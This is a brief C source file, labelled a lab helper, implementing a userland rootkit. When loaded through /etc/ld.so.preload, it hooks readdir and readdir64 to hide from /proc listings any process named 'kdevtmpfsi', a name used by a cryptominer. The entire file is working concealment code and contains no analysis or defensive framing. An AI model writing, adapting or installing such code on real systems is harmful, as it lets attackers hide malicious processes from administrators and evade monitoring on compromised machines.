/* Lab helper: a userland rootkit in miniature. Loaded through /etc/ld.so.preload into every
 * dynamically linked program, it hides processes whose comm is HIDDEN_COMM from /proc listings. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#define HIDDEN_COMM "kdevtmpfsi"

static int is_hidden(DIR *dir, const char *name) {
    char path[512], comm[64] = {0}, dpath[256];
    if (name[0] < '0' || name[0] > '9') return 0;
    snprintf(path, sizeof path, "/proc/self/fd/%d", dirfd(dir));
    ssize_t n = readlink(path, dpath, sizeof dpath - 1);
    if (n <= 0) return 0;
    dpath[n] = 0;
    if (strcmp(dpath, "/proc") != 0) return 0;
    snprintf(path, sizeof path, "/proc/%s/comm", name);
    FILE *f = fopen(path, "r");
    if (!f) return 0;
    if (!fgets(comm, sizeof comm, f)) comm[0] = 0;
    fclose(f);
    comm[strcspn(comm, "\n")] = 0;
    return strcmp(comm, HIDDEN_COMM) == 0;
}

#define HOOK(type, fn)                                                        \
    type *fn(DIR *dir) {                                                      \
        static type *(*real)(DIR *);                                          \
        if (!real) real = (type * (*)(DIR *)) dlsym(RTLD_NEXT, #fn);          \
        type *ent;                                                            \
        while ((ent = real(dir)) && is_hidden(dir, ent->d_name)) {}           \
        return ent;                                                           \
    }

HOOK(struct dirent, readdir)
HOOK(struct dirent64, readdir64)
